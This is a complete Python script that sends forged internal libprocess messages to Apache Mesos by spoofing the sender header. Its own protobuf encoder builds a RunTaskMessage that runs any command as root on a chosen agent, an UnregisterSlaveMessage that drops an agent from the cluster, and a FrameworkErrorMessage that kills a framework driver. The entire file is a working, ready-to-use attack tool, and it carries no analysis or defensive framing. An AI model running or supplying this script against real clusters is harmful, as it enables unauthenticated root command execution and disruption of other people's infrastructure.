"""Sends a libprocess message with a forged sender: forged_message.py FROM TO MESSAGE [ARGUMENT...]

FROM and TO are as libprocess writes them: name@host:port. Messages (Mesos' src/messages/messages.proto):
  RunTaskMessage AGENT COMMAND   runs a command as root on the agent with that ID
  UnregisterSlaveMessage AGENT   takes the agent with that ID out of the cluster
  FrameworkErrorMessage TEXT     ends a driver
Prints the answer's status and text. `202` means that libprocess has accepted the message.
"""

import http.client
import struct
import sys
import uuid


def field(number, value):
    """Encodes a protobuf field: a message or a text."""
    data = value.encode() if isinstance(value, str) else value
    length, size = len(data), b""
    while length > 127:
        size, length = size + bytes([length & 127 | 128]), length >> 7
    return bytes([number << 3 | 2]) + size + bytes([length]) + data


def scalar(name, amount):
    value = field(3, bytes([1 << 3 | 1]) + struct.pack("<d", amount))
    return field(1, name) + bytes([2 << 3, 0]) + value


def run_task(agent, command):
    framework = field(1, "root") + field(2, "forged") + field(3, field(1, f"forged-{uuid.uuid4()}"))
    resources = field(4, scalar("cpus", 0.1)) + field(4, scalar("mem", 32))
    named = field(1, "forged") + field(2, field(1, "forged")) + field(3, field(1, agent))
    task = named + resources + field(7, field(3, command) + field(5, "root"))
    return field(2, framework) + field(4, task)


MESSAGES = {
    "RunTaskMessage": run_task,
    "UnregisterSlaveMessage": lambda agent: field(1, field(1, agent)),
    "FrameworkErrorMessage": lambda text: field(2, text),
}
sender, receiver, message, *arguments = sys.argv[1:]
name, _, at = receiver.partition("@")
connection = http.client.HTTPConnection(at, timeout=20)
connection.request("POST", f"/{name}/mesos.internal.{message}", MESSAGES[message](*arguments), {"Libprocess-From": sender})
answer = connection.getresponse()
print(answer.status, answer.read().decode())
